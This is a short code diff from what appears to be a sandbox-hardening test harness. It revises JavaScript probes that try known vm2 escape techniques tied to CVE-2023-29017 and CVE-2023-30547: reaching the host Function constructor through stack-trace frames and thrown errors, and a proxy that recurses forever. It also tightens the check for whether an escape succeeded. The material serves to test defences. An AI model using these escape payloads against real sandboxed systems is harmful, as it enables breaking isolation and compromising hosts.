@@ -106,8 +106,14 @@ Promise.allSettled(pending).then(() => {{
 
 REPORT = """
 const reached = (route, F) => {
-  try { const p = F('return process')(); if (p) console.log('ESCAPED via ' + route + ': ' + p.pid); }
-  catch (e) { console.log(route + ' blocked: ' + e.name); }
+  try {
+    const p = F('return process')();
+    if (p && (typeof p.binding === 'function' || typeof p.getBuiltinModule === 'function')) {
+      console.log('ESCAPED via ' + route + ': ' + p.pid);
+    } else {
+      console.log(route + ' blocked: only the realm of the program, its own process');
+    }
+  } catch (e) { console.log(route + ' blocked: ' + e.name); }
 };
 """
 
@@ -133,7 +139,9 @@ try { err.stack; } catch (stdout) { reached('thrown', stdout.constructor.constru
 """,
     "CVE-2023-29017 prepareStackTrace": REPORT + """
 Error.prepareStackTrace = (e, frames) => { reached('frames', frames.constructor.constructor); };
-(async () => {}).constructor('return process')();
+// The PoC's `process` is undefined there; here it is the realm's own, which has no mainModule:
+// the error still comes, and its stack is formatted.
+(async () => {}).constructor('return process.mainModule.require')();
 """,
     "CVE-2023-30547 handleException": REPORT + """
 const handler = { getPrototypeOf(target) { (function stack() { new Error().stack; stack(); })(); } };
